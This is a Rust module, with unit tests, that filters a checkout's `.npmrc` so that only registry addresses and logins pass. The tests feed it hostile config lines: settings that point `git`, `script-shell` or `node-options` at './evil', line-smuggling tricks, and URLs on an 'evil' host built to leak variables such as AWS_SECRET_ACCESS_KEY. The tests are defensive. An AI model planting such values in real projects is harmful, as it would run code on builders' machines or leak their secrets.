//! Reads from a checkout's own `.npmrc` the settings that a fetch may use: the addresses of registries, and
//! the logins for them.
//!
//! npm's configuration can name programs (`git`, `script-shell`, `node-options`), proxies, certificates and
//! folders. The author of a checkout must not choose those on the machine of the person who builds it. So
//! they are left out, and the error names them if the fetch fails. A checkout must not choose either which
//! environment variables a registry is told, and npm replaces `${NAME}` by the variable's value. The user's
//! own `.npmrc` and environment are not affected by this. Format: npm's documentation, "npmrc".

use std::collections::BTreeSet;

/// The settings of a checkout's `.npmrc` that a fetch uses, and the names of the others.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Npmrc {
    /// The settings that passed, in npm's format.
    pub(crate) text: String,
    /// The names of the settings that were left out.
    pub(crate) left_out: BTreeSet<String>,
}

/// The settings with which a client logs in to a registry.
const LOGIN: [&str; 5] = ["_authToken", "_auth", "username", "_password", "email"];

impl Npmrc {
    /// Selects the settings that may pass. `is_lent` returns true for the variables that the text may refer
    /// to.
    pub(crate) fn new(text: &str, is_lent: &dyn Fn(&str) -> bool) -> Self {
        let mut npmrc = Self::default();
        let mut section = String::new();
        // npm ends a line at either of the two characters.
        for line in text.split(['\r', '\n']).map(str::trim) {
            if line.is_empty() || line.starts_with([';', '#']) {
                continue;
            }
            if line.starts_with('[') {
                section = format!("{line}.");
                continue;
            }
            let (key, value) = line.split_once('=').unwrap_or((line, ""));
            let (key, value) = (key.trim(), value.trim());
            // npm parses a value in quotes as JSON, whose escapes could hide what is looked for here.
            let is_plain = value.chars().all(|c| !c.is_control() && !"\"'\\".contains(c));
            let passes = section.is_empty() && is_address(key) && is_plain;
            if passes && variables(value).all(is_lent) {
                npmrc.text.push_str(&format!("{key}={value}\n"));
            } else {
                // Only the name is recorded, because a line without `=` may go on with a secret.
                let name = key.split_whitespace().next().unwrap_or_default();
                npmrc.left_out.insert(format!("{section}{name}").escape_debug().to_string());
            }
        }
        npmrc
    }
}

/// Returns true if a setting is the address of a registry, or a login for one.
fn is_address(key: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_.~@/:%".contains(c);
    if !key.chars().all(is_plain) {
        return false;
    }
    let scope = key.strip_prefix('@').and_then(|key| key.strip_suffix(":registry"));
    let login = key.strip_prefix("//").and_then(|key| key.rsplit_once(':'));
    key == "registry"
        || scope.is_some_and(|scope| !scope.is_empty() && !scope.contains([':', '/']))
        || login.is_some_and(|(_, setting)| LOGIN.contains(&setting))
}

/// Returns the variables that npm would insert into a value, written as `${NAME}` and `${NAME?}`.
fn variables(value: &str) -> impl Iterator<Item = &str> {
    value.split("${").skip(1).map(|rest| {
        let name = rest.split_once('}').map_or(rest, |(name, _)| name);
        name.strip_suffix('?').unwrap_or(name)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_of_registries_are_taken_and_programs_are_not() {
        let check = |text: &str, expect: &str, left_out: &[&str]| {
            let npmrc = Npmrc::new(text, &|name| name.starts_with("NPM_"));
            assert_eq!(npmrc.text, expect, "{text:?}");
            assert_eq!(Vec::from_iter(&npmrc.left_out), left_out, "{text:?}");
        };
        check("", "", &[]);
        let own = "registry=https://own/\n@a:registry=https://a/\n//own/:_authToken=${NPM_TOKEN}\n";
        check(own, own, &[]);
        check("; note\n# note\n registry = https://own/ \r\n", "registry=https://own/\n", &[]);
        check(
            "git=./evil\nscript-shell = ./evil\nnode-options=--require=./evil.js\nprefix=..\nproxy=p\n\
             strict-ssl=false\ncafile=ca\n//own/:certfile=c\n//own/:tokenHelper=/evil",
            "",
            &[
                "//own/:certfile",
                "//own/:tokenHelper",
                "cafile",
                "git",
                "node-options",
                "prefix",
                "proxy",
                "script-shell",
                "strict-ssl",
            ],
        );
        // Each of these is a way to smuggle in a line that this reader overlooks and npm's reader sees.
        check("registry=https://own/\rgit=./evil", "registry=https://own/\n", &["git"]);
        check("\"git\"=./evil", "", &["\\\"git\\\""]);
        check("git[]=./evil", "", &["git[]"]);
        check("[section]\nregistry=https://own/", "", &["[section].registry"]);
        check("registry=https://evil/${AWS_SECRET_ACCESS_KEY}", "", &["registry"]);
        check("registry=https://evil/${AWS_SECRET_ACCESS_KEY?}", "", &["registry"]);
        check("//evil/:_authToken=${NPM_TOKEN}${HOME}", "", &["//evil/:_authToken"]);
        check("@a/b:registry=x", "", &["@a/b:registry"]);
        check("registry=\"https://evil/\\u0024{GIT_TOKEN}/\"", "", &["registry"]);
        check("registry='https://evil/'", "", &["registry"]);
        check("//own/:_authToken s3cret", "", &["//own/:_authToken"]);
    }
}
